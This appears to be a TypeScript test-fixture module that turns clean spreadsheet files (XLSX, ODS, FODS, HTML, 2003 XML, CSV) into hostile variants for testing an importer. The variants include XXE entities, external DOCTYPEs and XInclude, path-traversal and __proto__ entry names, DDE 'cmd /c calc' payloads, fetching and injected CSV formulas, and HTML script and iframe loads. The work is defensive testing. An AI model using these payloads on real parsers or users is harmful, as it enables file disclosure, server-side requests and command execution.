import { readFileSync } from 'node:fs';
import { unzip, zip } from '../zip.js';

/** A sound sheet into which something has been put that points out of it. */
export interface Hostile {
  name: string;
  /** The sound sheet; its facts are what must be read, or the file be refused. */
  sound: string;
  bytes: Uint8Array;
  /** The code that it is refused with, null where it is read. */
  code: string | null;
}

/** What the files point to: a file with a word in it, and a server, as URLs. */
export interface Outside {
  file: string;
  server: string;
}

/** Of fixtures/clients. */
const SOUND = {
  xlsx: 'libreoffice/sheet.xlsx',
  ods: 'libreoffice/sheet.ods',
  fods: 'libreoffice/sheet.fods',
  html: 'libreoffice/sheet.html.xls',
  xml: 'sheetjs/sheet.xml',
  csv: 'libreoffice/sheet.utf8.csv',
} as const;
type Format = keyof typeof SOUND;

const DAMAGED = 'file.damaged';
const SHEET = 'xl/worksheets/sheet1.xml';
const STRINGS = 'xl/sharedStrings.xml';
const BOOK = 'xl/workbook.xml';
const BOOK_RELS = 'xl/_rels/workbook.xml.rels';
const TYPES = '[Content_Types].xml';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships';

export function hostileFiles(outside: Outside): Hostile[] {
  return [...books(outside), ...documents(outside), ...pages(outside), ...texts(outside)];
}

type Edit = (text: string) => string;
type Made = [what: string, code: string | null, edits: Record<string, Edit>, more?: Record<string, string>];

/** OOXML: what may be in a part, beside it, or in a relationship. */
function books({ file, server }: Outside): Hostile[] {
  const urls = [file, server, '\\\\server.invalid\\share\\a.xlsx'];
  const external = (type: string) => relationships(urls.map((url) => [`${REL}/${type}`, url, 'External']));
  const made: Made[] = [
    [
      'external links',
      null,
      {
        [BOOK]: before(
          '<definedNames>',
          '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        ),
        [BOOK_RELS]: related('rId9', 'externalLink', 'externalLinks/externalLink1.xml'),
        [SHEET]: inTitle(`<f>'[1]S'!A1</f>`),
      },
      {
        'xl/externalLinks/externalLink1.xml': `<externalLink xmlns:r="${REL}"><externalBook r:id="rId1"/><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
        'xl/externalLinks/_rels/externalLink1.xml.rels': external('externalLinkPath'),
      },
    ],
    [
      'hyperlinks',
      null,
      {
        [SHEET]: before(
          '</worksheet>',
          '<hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="B5" r:id="rId2"/></hyperlinks>',
        ),
      },
      { 'xl/worksheets/_rels/sheet1.xml.rels': external('hyperlink') },
    ],
    [
      'formulas that fetch',
      null,
      {
        [SHEET]: inTitle(
          `<f>WEBSERVICE("${server}")&amp;HYPERLINK("${file}")&amp;IMPORTXML("${server}","/")&amp;cmd|'/c calc'!A1</f>`,
        ),
      },
    ],
    [
      'data connections',
      null,
      {
        [BOOK_RELS]: related('rId9', 'connections', 'connections.xml'),
        [TYPES]: typed('/xl/connections.xml', 'connections'),
      },
      {
        'xl/connections.xml': `<connections><connection id="1" refreshOnLoad="1"><webPr url="${server}"/><dbPr connection="ODBC;DBQ=${file}" command="x"/><textPr sourceFile="${file}"/></connection></connections>`,
        'xl/queryTables/queryTable1.xml': '<queryTable connectionId="1" refreshOnLoad="1"/>',
        'customXml/item1.xml': `<DataMashup>${server}</DataMashup>`,
      },
    ],
    [
      'linked pictures and objects',
      null,
      {
        [SHEET]: before(
          '</worksheet>',
          '<drawing r:id="rId1"/><legacyDrawing r:id="rId2"/><oleObjects><oleObject link="x" r:id="rId3"/></oleObjects>',
        ),
      },
      {
        'xl/worksheets/_rels/sheet1.xml.rels': `${external('image')}`,
        'xl/drawings/drawing1.xml': `<xdr:wsDr><a:blip r:link="rId1"/></xdr:wsDr>`,
        'xl/drawings/_rels/drawing1.xml.rels': external('image'),
      },
    ],
    [
      'a stylesheet, a schema and an inclusion',
      null,
      {
        [SHEET]: (text) =>
          rooted(
            `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${server} ${file}"`,
          )(
            before(
              '<worksheet',
              `<?xml-stylesheet type="text/xsl" href="${server}"?>`,
            )(
              before(
                '</worksheet>',
                `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${file}" parse="text"/>`,
              )(text),
            ),
          ),
      },
    ],
    [
      'a sheet that is another file',
      DAMAGED,
      { [BOOK_RELS]: retarget('worksheets/sheet1.xml', `${file}" TargetMode="External`) },
    ],
    [
      'a sheet from a server',
      DAMAGED,
      { [BOOK_RELS]: retarget('worksheets/sheet1.xml', `${server}" TargetMode="External`) },
    ],
    [
      'a sheet outside the container',
      DAMAGED,
      { [BOOK_RELS]: retarget('worksheets/sheet1.xml', `../../../../../../../..${new URL(file).pathname}`) },
    ],
    [
      'texts that are another file',
      'file.no-table',
      { [BOOK_RELS]: retarget('sharedStrings.xml', `${file}" TargetMode="External`) },
    ],
    [
      'styles from a server',
      null,
      { [BOOK_RELS]: retarget('styles.xml', `${server}" TargetMode="External`) },
    ],
    [
      'a workbook from a server',
      null,
      { '_rels/.rels': retarget('xl/workbook.xml', `${server}" TargetMode="External`) },
    ],
    ['an entity that is a file, in the texts', null, { [STRINGS]: withEntity('sst', file) }],
    ['an entity from a server, in the texts', null, { [STRINGS]: withEntity('sst', server) }],
    ['an entity that is a file, in the sheet', null, { [SHEET]: withEntity('worksheet', file) }],
    ['a document type from a server, in the sheet', null, { [SHEET]: withDoctype('worksheet', server) }],
    ['an entity that is a file, in the workbook', null, { [BOOK]: withEntity('workbook', file) }],
    [
      'an entity that is a file, in the relationships',
      null,
      { [BOOK_RELS]: withEntity('Relationships', file) },
    ],
    ['an entity that is a file, in the types', null, { [TYPES]: withEntity('Types', file) }],
    [
      'names that lead out of the container',
      DAMAGED,
      {},
      Object.fromEntries(
        [
          '../../../../slipped.xml',
          '/slipped.xml',
          'C:\\slipped.xml',
          '..\\..\\slipped.xml',
          'xl/../../slipped.xml',
          '__proto__',
          'constructor.xml',
        ].map((name) => [name, '<a/>']),
      ),
    ],
    ['a sheet named __proto__', null, { [BOOK]: named('__proto__') }],
    ['a sheet named constructor', null, { [BOOK]: named('constructor') }],
    [
      'columns named __proto__ and constructor',
      null,
      { [SHEET]: withColumns(['__proto__', 'constructor', 'toString', 'hasOwnProperty']) },
    ],
  ];
  return made.map(([what, code, edits, more = {}]) => ({
    name: `${what}.xlsx`,
    sound: SOUND.xlsx,
    bytes: edited('xlsx', edits, more),
    code,
  }));
}

/** OpenDocument, in a container and flat. */
function documents({ file, server }: Outside): Hostile[] {
  const inSheet = (element: string) => after('table:style-name="ta1">', element);
  const root = 'office:document-content';
  const made: Made[] = [
    [
      'linked sheet',
      null,
      {
        'content.xml': inSheet(
          `<table:table-source xlink:type="simple" xlink:href="${file}" table:table-name="S"/>`,
        ),
      },
    ],
    [
      'pictures',
      null,
      {
        'content.xml': inSheet(
          `<table:shapes><draw:frame><draw:image xlink:href="${server}" xlink:actuate="onLoad"/></draw:frame></table:shapes>`,
        ),
      },
    ],
    [
      'dde and scripts',
      null,
      {
        'content.xml': inSheet(
          `<office:dde-source office:dde-application="cmd" office:dde-topic="${file}" office:dde-item="a"/><office:event-listeners><script:event-listener xlink:href="${server}"/></office:event-listeners>`,
        ),
      },
    ],
    ['an entity that is a file', DAMAGED, { 'content.xml': withEntity(root, file) }],
    ['an entity from a server', DAMAGED, { 'content.xml': withEntity(root, server) }],
    ['a document type from a server', null, { 'content.xml': withDoctype(root, server) }],
    [
      'a sheet named __proto__',
      null,
      { 'content.xml': retarget('table:name="推荐汇总表"', 'table:name="__proto__"') },
    ],
    [
      'names that lead out of the container',
      null,
      {},
      { '../../slipped.xml': '<a/>', '/slipped.xml': '<a/>', __proto__x: '' },
    ],
  ];
  const flat: [what: string, code: string | null, edit: Edit][] = [
    ['an entity that is a file', DAMAGED, withEntity('office:document', file)],
    ['a document type from a server', null, withDoctype('office:document', server)],
  ];
  return [
    ...made.map(([what, code, edits, more = {}]) => ({
      name: `${what}.ods`,
      sound: SOUND.ods,
      bytes: edited('ods', edits, more),
      code,
    })),
    ...flat.map(([what, code, edit]) => editedText('fods', what, code, edit)),
  ];
}

/** HTML tables and the XML of 2003. */
function pages({ file, server }: Outside): Hostile[] {
  const head = [
    `<base href="${server}"><link rel="stylesheet" href="${file}"><script src="${server}"></script>`,
    `<style>@import url("${server}");td{background:url(${file})}</style><meta http-equiv="refresh" content="0;url=${server}">`,
  ].join('');
  const body = `<img src="${server}"><img src="${file}"><iframe src="${file}"></iframe><object data="${server}"></object><a href="${file}">`;
  return [
    editedText('html', 'pictures, frames and style sheets', null, (text) =>
      after('<head>', head)(after('附件', body)(text)),
    ),
    editedText(
      'html',
      'a document type from a server',
      null,
      retarget('<!DOCTYPE html>', `<!DOCTYPE html SYSTEM "${server}">`),
    ),
    editedText('xml', 'an entity that is a file', DAMAGED, withEntity('Workbook', file)),
    editedText('xml', 'an entity from a server', DAMAGED, withEntity('Workbook', server)),
    editedText('xml', 'a style sheet and links', null, (text) =>
      before(
        '<Workbook',
        `<?xml-stylesheet type="text/xsl" href="${server}"?>`,
      )(text.replace('<Cell', `<Cell ss:HRef="${file}"`)),
    ),
    editedText('xml', 'a sheet named __proto__', null, named('__proto__')),
  ];
}

function texts({ file, server }: Outside): Hostile[] {
  const formula = `"=WEBSERVICE(""${server}"")&HYPERLINK(""${file}"")&cmd|'/c calc'!A1"`;
  return [
    editedText('csv', 'formulas that fetch', null, retarget('附件2', formula)),
    editedText('csv', 'columns named __proto__ and constructor', null, (text) =>
      text.replace(/(?<=\n序号.*)(?=\r?\n)/u, ',__proto__,constructor,toString'),
    ),
  ];
}

/** Puts something before or behind the first place of a text; throws where that is not there. */
function before(place: string, more: string): Edit {
  return retarget(place, more + place);
}

function after(place: string, more: string): Edit {
  return retarget(place, place + more);
}

function retarget(place: string, by: string): Edit {
  return (text) => {
    if (!text.includes(place)) throw new Error(`no ${place}`);
    return text.replace(place, () => by);
  };
}

function rooted(attributes: string): Edit {
  return after('<worksheet', ` ${attributes}`);
}

function named(name: string): Edit {
  return (text) =>
    text.replace(/(name|ss:Name)="推荐汇总表"/iu, `$1="${name}"`).replaceAll('推荐汇总表!', `${name}!`);
}

function inTitle(formula: string): Edit {
  return after('<c r="A1" s="1" t="s">', formula);
}

function related(id: string, type: string, target: string): Edit {
  return before('</Relationships>', `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"/>`);
}

function typed(part: string, kind: string): Edit {
  const type = `application/vnd.openxmlformats-officedocument.spreadsheetml.${kind}+xml`;
  return before('</Types>', `<Override PartName="${part}" ContentType="${type}"/>`);
}

function relationships(list: [type: string, target: string, mode: string][]): string {
  const each = list.map(
    ([type, target, mode], i) =>
      `<Relationship Id="rId${i + 1}" Type="${type}" Target="${target}" TargetMode="${mode}"/>`,
  );
  return `<Relationships xmlns="${PACKAGE}">${each.join('')}</Relationships>`;
}

/** An entity that stands for what is at a URL, used in the first text of the root; also as a part of the type itself. */
function withEntity(root: string, url: string): Edit {
  const type = `<!DOCTYPE ${root} [<!ENTITY % p SYSTEM "${url}"> %p; <!ENTITY e SYSTEM "${url}">]>`;
  return (text) =>
    before(`<${root}`, type)(text).replace(/(?<=>)(?=<\/)|附件|(?=<\/Types>|<\/Relationships>)/u, '&e;');
}

function withDoctype(root: string, url: string): Edit {
  return before(`<${root}`, `<!DOCTYPE ${root} SYSTEM "${url}">`);
}

/** Behind the last column of the header and of the first person. */
function withColumns(names: string[]): Edit {
  const cells = (row: number) =>
    names.map((name, i) => `<c r="A${'GHIJ'[i]}${row}" t="inlineStr"><is><t>${name}</t></is></c>`).join('');
  return (text) =>
    text.replace(
      /(<row r="(3|5)".*?)(<\/row>)/gsu,
      (_, row, number, end) => row + cells(Number(number)) + end,
    );
}

function soundBytes(format: Format): Buffer {
  return readFileSync(new URL(`../../../fixtures/clients/${SOUND[format]}`, import.meta.url));
}

function edited(format: Format, edits: Record<string, Edit>, more: Record<string, string>): Uint8Array {
  const parts = unzip(soundBytes(format));
  const missing = Object.keys(edits).filter((name) => parts.every((part) => part.name !== name));
  if (missing.length > 0) throw new Error(`no ${missing}`);
  const changed = parts.map(({ name, content }): [string, string | Uint8Array] => {
    const edit = edits[name];
    return [name, edit === undefined ? content : edit(content.toString())];
  });
  return zip([...changed, ...Object.entries(more)]);
}

function editedText(format: Format, what: string, code: string | null, edit: Edit): Hostile {
  const text = soundBytes(format).toString();
  return { name: `${what}.${format}`, sound: SOUND[format], bytes: Buffer.from(edit(text)), code };
}
